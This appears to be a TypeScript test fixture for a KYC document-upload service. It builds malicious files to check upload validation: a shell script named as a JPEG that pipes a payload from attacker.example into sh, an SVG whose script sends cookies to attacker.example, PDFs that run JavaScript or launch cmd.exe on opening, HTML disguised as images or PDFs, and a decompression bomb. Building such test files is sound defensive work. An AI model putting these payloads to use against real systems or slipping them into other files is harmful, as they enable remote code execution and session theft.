// Files an attacker uploads, and the few real documents they hide among: each real one carries a
// marker, so that an answer serving a stored document back can be recognised by its content.
import { deflateSync } from 'node:zlib';
import {
  decompressionBomb,
  jpegComment,
  jpegOf,
  pdfOf,
  pngOf,
  type TestDocument,
} from '@rent/test-kit/documents';

export type UploadFile = TestDocument;

const MIB = 1024 * 1024;

/**
 * A real JPEG with a comment holding `marker`, padded with further comments to `totalBytes` when
 * given: any decoder reads it as a 2×2 picture.
 */
export function jpeg(name: string, marker = '', totalBytes = 0): UploadFile {
  return jpegOf(name, { comments: [jpegComment(Buffer.from(marker, 'latin1'))], totalBytes });
}

/** A one-page PDF whose only text is `marker`. */
export function pdf(name: string, marker = ''): UploadFile {
  return pdfOf(
    [
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Marker (${marker}) >>`,
    ],
    { name, version: '1.4' },
  );
}

// A server that decodes the bomb without a bound on its size runs out of memory; one that
// re-encodes images must refuse it from its header, at once.
export { decompressionBomb };

/** A real 1×1 PNG followed by an HTML page that carries `marker` and a script. */
export function pngWithHtmlAppended(name: string, marker: string): UploadFile {
  const html = `<!doctype html><html><body><script>alert(document.domain)</script>${marker}</body></html>`;
  const image = pngOf(1, 1, 0, deflateSync(Buffer.from([0, 128])));
  return { name, type: 'image/png', bytes: Buffer.concat([image, Buffer.from(html)]) };
}

/** A one-page PDF that runs JavaScript as soon as it is opened. */
export function pdfWithJavaScript(name = 'statement.pdf'): UploadFile {
  const plain = Buffer.from(pdf(name).bytes).toString('latin1');
  const text = plain.replace(
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> >>',
  );
  return { name, type: 'application/pdf', bytes: Buffer.from(text, 'latin1') };
}

/** A one-page PDF that starts a program when it is opened. */
export function pdfWithLaunch(name = 'statement.pdf'): UploadFile {
  const plain = Buffer.from(pdf(name).bytes).toString('latin1');
  const text = plain.replace(
    '<< /Type /Catalog /Pages 2 0 R >>',
    '<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (cmd.exe) >> >>',
  );
  return { name, type: 'application/pdf', bytes: Buffer.from(text, 'latin1') };
}

/** A shell script renamed to look like a photo. */
export function renamedScript(name = 'aadhar.jpg'): UploadFile {
  const script = '#!/bin/sh\ncurl -s http://attacker.example/payload | sh\n';
  return { name, type: 'image/jpeg', bytes: Buffer.from(script) };
}

/** An SVG image that runs a script when a browser opens it. */
export function svgWithScript(name = 'aadhar.svg', type = 'image/svg+xml'): UploadFile {
  const text =
    '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">' +
    '<script>fetch("https://attacker.example/?c=" + document.cookie)</script></svg>';
  return { name, type, bytes: Buffer.from(text) };
}

/** An HTML page that calls itself a PDF. */
export function htmlAsPdf(name = 'statement.pdf'): UploadFile {
  const text = '<!doctype html><html><body><script>alert(document.domain)</script></body></html>';
  return { name, type: 'application/pdf', bytes: Buffer.from(text) };
}

/** A JPEG one byte over the 5 MB limit. */
export function oversizeJpeg(name = 'aadhar-large.jpg'): UploadFile {
  return jpeg(name, '', 5 * MIB + 1);
}

export function emptyFile(name = 'aadhar.png'): UploadFile {
  return { name, type: 'image/png', bytes: new Uint8Array(0) };
}

/** The identity details of a valid KYC submission, as the form sends them. */
export const VALID_KYC_FIELDS: Readonly<Record<string, string>> = {
  firstName: 'Meera',
  lastName: 'Iyer',
  email: 'meera.iyer@example.com',
  phone: '+91 98450 12345',
  dob: '1988-03-21',
  street1: '7 Residency Road',
  city: 'Bengaluru',
  state: 'Karnataka',
  postalCode: '560025',
  termsAccepted: 'true',
  privacyPolicyAccepted: 'true',
};
